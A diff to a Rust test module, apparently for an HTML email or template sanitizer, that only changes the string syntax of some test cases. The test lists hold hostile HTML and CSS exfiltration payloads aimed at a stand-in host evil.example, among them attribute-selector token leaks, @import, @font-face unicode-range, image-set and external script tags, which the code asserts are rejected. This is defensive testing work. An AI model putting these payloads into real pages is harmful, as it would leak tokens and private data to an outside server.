@@ -307,7 +307,7 @@ mod tests {
             "<p {{ code }}=1>x</p>",
             r#"<svg><image href="https://evil.example/?{{ code }}"/></svg>"#,
             r#"<p>{{ code }}</p><style/>@import url("https://evil.example/? {{ code }} ");</style>"#,
-            r#"<p>{{ code }}</p><title/>{{ code }}</title>"#,
+            "<p>{{ code }}</p><title/>{{ code }}</title>",
         ] {
             assert!(!html(evil), "{evil}");
         }
@@ -320,18 +320,18 @@ mod tests {
             r#"<style>a[href*="token=A"] { background: url(https://evil.example/A) }</style>"#,
             r#"<style>a[href*="token=A"] { background: u\72l(https://evil.example/A) }</style>"#,
             r#"<style>@import "https://evil.example/rules.css";</style>"#,
-            r#"<style>@font-face { font-family: a; src: URL(https://evil.example/1); unicode-range: U+31 }</style>"#,
+            "<style>@font-face { font-family: a; src: URL(https://evil.example/1); unicode-range: U+31 }</style>",
             r#"<style>p { background: image-set("https://evil.example/1" 1x) }</style>"#,
             r#"<p style="background-image: url(https://evil.example/1)">x</p>"#,
             r#"<link rel="stylesheet" href="https://evil.example/rules.css">"#,
             r#"<script src="https://evil.example/a.js"></script>"#,
-            r#"<style/>a { background: url(https://evil.example/A) }</style>"#,
+            "<style/>a { background: url(https://evil.example/A) }</style>",
         ] {
             assert!(!watching(evil).is_empty(), "{evil}");
             assert!(!html(&format!("<p>{{{{ code }}}}</p>{evil}")), "{evil}");
         }
         for good in [
-            r#"<style>@media (prefers-color-scheme: dark) { p { color: #fff; background-image: none } }</style>"#,
+            "<style>@media (prefers-color-scheme: dark) { p { color: #fff; background-image: none } }</style>",
             r#"<p style="background: #fff; font-family: 'Inter', sans-serif; width: calc(100% - 2px)">url(x) @import</p>"#,
             r#"<img src="https://cdn.example/logo.png" srcset="https://cdn.example/logo2.png 2x" alt="">"#,
         ] {
